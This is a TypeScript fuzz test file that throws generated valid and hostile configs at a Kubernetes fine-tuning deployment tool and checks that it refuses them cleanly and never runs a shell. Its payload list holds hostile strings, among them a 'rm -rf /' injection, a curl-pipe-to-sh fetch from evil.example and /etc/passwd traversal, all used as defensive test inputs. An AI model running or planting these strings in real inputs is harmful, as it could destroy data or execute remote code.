// Property-based tests: thousands of generated stack configs, valid and hostile, for the v1
// operator and Trainer v2. Each is either refused with problems that name key paths (never a
// crash, a stack trace or an SDK error), or every object the program renders passes its
// Kubernetes schema (and the PyTorchJob or TrainJob CRD and webhook rules), runs no shell, and
// carries every user string intact as one argument.
// Seeded and bounded; on failure fast-check prints the seed and path to replay it:
//   FUZZ_SEED=<seed> npm run test:unit
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { ConfigError, decodeConfigValues, parseStackConfig, SECRET_KEYS } from "../components/config";
import { loadValidators } from "./support/k8sSchema";
import { shellInvocations } from "./support/podSecurity";
import { runStack, toStackConfig } from "./support/stacks";

const SEED = Number(process.env.FUZZ_SEED ?? 20261128);
const PARSE_RUNS = Number(process.env.FUZZ_PARSE_RUNS ?? 3000);
const PROGRAM_RUNS = Number(process.env.FUZZ_PROGRAM_RUNS ?? 250);

const PAYLOADS = [
  "'; rm -rf / #",
  "$(curl http://evil.example | sh)",
  "`id`",
  "quote \" and ' both",
  "line1\nline2\r\n",
  "nul\u0000byte",
  "x".repeat(5000),
  "__proto__",
  "constructor",
  "Ünïcödé ✓ 🔥 名前",
  "--flag=$HOME && echo",
  "\\\\server\\share",
  "%s%n%x",
  "../../etc/passwd",
  "{{ .Values.secret }}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell expansion is the payload
  "${HOME}",
  "",
  " ",
];

/** Strings an attacker or a careless hand might put anywhere. */
const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
);

/** Any JSON value of a wrong or extreme kind. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(-1, 0, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER, 2 ** 53 + 1, true, false, null),
  fc.integer(),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

const SOURCES = {
  model: [undefined, "hf://ibm-granite/granite-3.1-8b-base@main", "s3://models/granite", "pvc://shared/models"],
  dataset: [undefined, "hf://datasets/org/data", "s3://data/run-1", "pvc://shared/data"],
};

const volume = (role: "model" | "dataset") =>
  fc
    .record({
      source: fc.constantFrom(...SOURCES[role]),
      size: fc.constantFrom("1Gi", "100Gi"),
      accessMode: fc.constantFrom(undefined, "ReadWriteMany", "ReadWriteOnce"),
    })
    .map((v) => {
      if (v.source?.startsWith("pvc://")) return { source: v.source };
      return Object.fromEntries(Object.entries(v).filter(([, x]) => x !== undefined));
    });

/** A plausible job whose free-text fields carry hostile strings. */
const job = fc.record({
  image: fc.constantFrom("quay.io/acme/trainer:1.0", `registry.example.com/t@sha256:${"a".repeat(64)}`, "trainer"),
  nodes: fc.integer({ min: 1, max: 4 }),
  gpusPerNode: fc.integer({ min: 1, max: 8 }),
  gpuResource: fc.constantFrom("nvidia.com/gpu", "amd.com/gpu", "habana.ai/gaudi"),
  env: fc.dictionary(fc.constantFrom("NCCL_DEBUG", "MY_VAR", "a.b-c"), hostileString, { maxKeys: 2 }),
  model: volume("model"),
  dataset: volume("dataset"),
  output: fc.constantFrom({ size: "10Gi" }, { existingClaim: "ckpt" }, { size: "1Ti", retain: false }),
  trainer: fc.oneof(
    fc.record({
      type: fc.constant("command"),
      command: fc.array(hostileString, { maxLength: 5 }).map((a) => ["python", ...a]),
    }),
    fc.record({
      type: fc.constant("instructlab"),
      epochs: fc.integer({ min: 1, max: 5 }),
      learningRate: fc.constantFrom(1e-5, 2e-4),
      extraArgs: fc.array(hostileString, { maxLength: 3 }),
    }),
  ),
  rerun: fc.option(hostileString, { nil: undefined }),
  annotations: fc.dictionary(fc.constantFrom("example.com/note", "ticket"), hostileString, { maxKeys: 2 }),
  wait: fc.constantFrom("none", "running", "succeeded"),
  scheduling: fc.constantFrom({}, { gang: true, queue: "q" }, { nodeSelector: { "nvidia.com/gpu.product": "H100" } }),
});

const validStack = fc.record({
  namespace: fc.constantFrom("ml", "team-a"),
  trainingOperator: fc.constantFrom({ install: false }, {}, { version: "v2.3.0", install: false }),
  networkPolicy: fc.boolean(),
  jobs: fc.dictionary(fc.constantFrom("granite", "llama-2", "a"), job, { minKeys: 1, maxKeys: 2 }),
});

type Stack = Record<string, any>;

/** One random mistake: a wrong value anywhere, an unknown or dangerous key, a hostile job name. */
const mutation = fc.oneof(
  fc.record({
    kind: fc.constant("top"),
    key: fc.constantFrom("namespace", "jobs", "trainingOperator", "networkPolicy", "cluster"),
    value: hostileValue,
  }),
  fc.record({
    kind: fc.constant("job"),
    key: fc.constantFrom(
      "image",
      "nodes",
      "gpusPerNode",
      "gpuResource",
      "env",
      "model",
      "output",
      "trainer",
      "wait",
      "timeout",
      "scheduling",
      "runPolicy",
      "securityContext",
      "labels",
    ),
    value: hostileValue,
  }),
  fc.record({
    kind: fc.constant("unknown"),
    key: fc.oneof(fc.constantFrom("__proto__", "constructor", "prototype", "nodse"), hostileString),
    value: hostileValue,
  }),
  fc.record({ kind: fc.constant("name"), key: hostileString, value: fc.constant(null) }),
);

function mutate(stack: Stack, m: { kind: string; key: string; value: unknown }): Stack {
  const copy: Stack = JSON.parse(JSON.stringify(stack));
  const firstJob = Object.keys(copy.jobs)[0];
  // Own properties even for "__proto__", as JSON.parse would produce from a stack file.
  const put = (target: Stack, key: string, value: unknown) =>
    Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  switch (m.kind) {
    case "top":
      put(copy, m.key, m.value);
      break;
    case "job":
      put(copy.jobs[firstJob], m.key, m.value);
      break;
    case "unknown":
      put(fc.sample(fc.boolean(), 1)[0] ? copy : copy.jobs[firstJob], m.key, m.value);
      break;
    case "name":
      put(copy.jobs, m.key, copy.jobs[firstJob]);
      break;
  }
  return copy;
}

const anyStack = fc.oneof(
  { weight: 1, arbitrary: validStack },
  { weight: 1, arbitrary: fc.tuple(validStack, mutation).map(([s, m]) => mutate(s, m)) },
);

/** A refusal must be a ConfigError whose every problem names a key path on one line. */
function assertGoodRefusal(e: unknown): void {
  assert.ok(e instanceof ConfigError, `expected a ConfigError, got ${String((e as Error)?.stack ?? e)}`);
  assert.ok(e.problems.length > 0);
  for (const p of e.problems) {
    // finetune:<plain.segments> with odd keys quoted: jobs["; rm -rf /"].nodes, tolerations[0]
    assert.match(
      p,
      /^finetune:(?:[A-Za-z0-9_./-]+|\[(?:"(?:[^"\\]|\\.)*"|\d+)\])*: \S/,
      `problem without a key path: ${JSON.stringify(p)}`,
    );
    assert.equal(p.includes("\n"), false, `problem spans lines: ${JSON.stringify(p)}`);
    assert.ok(p.length < 2000, `problem too long: ${p.length}`);
    assert.doesNotMatch(p, /ZodError|TypeError|undefined is not|at Object\.|\[object Object\]/);
  }
}

describe("fuzzed stack config", () => {
  it(`validation refuses with key paths or accepts, ${PARSE_RUNS} configs`, () => {
    fc.assert(
      fc.property(anyStack, (stack) => {
        try {
          parseStackConfig(toStackConfig(stack), new Set());
        } catch (e) {
          assertGoodRefusal(e);
        }
        assert.equal(({} as Record<string, unknown>).polluted, undefined);
      }),
      { seed: SEED, numRuns: PARSE_RUNS },
    );
  });

  it(`the program renders only schema-valid, shell-free objects, ${PROGRAM_RUNS} configs`, async () => {
    const validate = await loadValidators();
    let accepted = 0;
    let acceptedV2 = 0;
    await fc.assert(
      fc.asyncProperty(anyStack, async (stack) => {
        let run: Awaited<ReturnType<typeof runStack>>;
        try {
          run = await runStack(stack, []);
        } catch (e) {
          assertGoodRefusal(e);
          return;
        }
        accepted++;
        if (stack.trainingOperator?.version === "v2.3.0") acceptedV2++;
        for (const r of run.resources.filter((r) => r.custom && typeof r.inputs.kind === "string")) {
          assert.deepEqual(validate(r), [], `${r.type} ${r.name}`);
          assert.deepEqual(shellInvocations(r.inputs), [], `${r.type} ${r.name}`);
        }
        for (const [name, j] of Object.entries(stack.jobs as Record<string, Stack>)) {
          if (j.trainer?.type !== "command") continue;
          const pj = run.resources.find((r) => r.name === `${name}-pytorchjob`)?.inputs as Stack | undefined;
          const tj = run.resources.find((r) => r.name === `${name}-trainjob`)?.inputs as Stack | undefined;
          const argv = pj
            ? pj.spec.pytorchReplicaSpecs.Master.template.spec.containers[0].command
            : tj?.spec.trainer.command;
          assert.deepEqual(argv, j.trainer.command);
        }
      }),
      { seed: SEED, numRuns: PROGRAM_RUNS },
    );
    // The generator must reach both branches, or the property says little.
    assert.ok(accepted > PROGRAM_RUNS / 10, `only ${accepted} of ${PROGRAM_RUNS} configs were accepted`);
    assert.ok(accepted < PROGRAM_RUNS, "no config was refused");
    assert.ok(acceptedV2 > PROGRAM_RUNS / 30, `only ${acceptedV2} Trainer v2 configs were accepted`);
  });

  it("never uses a secret key's value during validation", () => {
    const raw = toStackConfig({ namespace: "ml", jobs: {}, hfToken: "x".repeat(10) });
    const { values } = decodeConfigValues(raw, new Set(SECRET_KEYS));
    assert.equal(values.hfToken, "[secret]");
  });
});
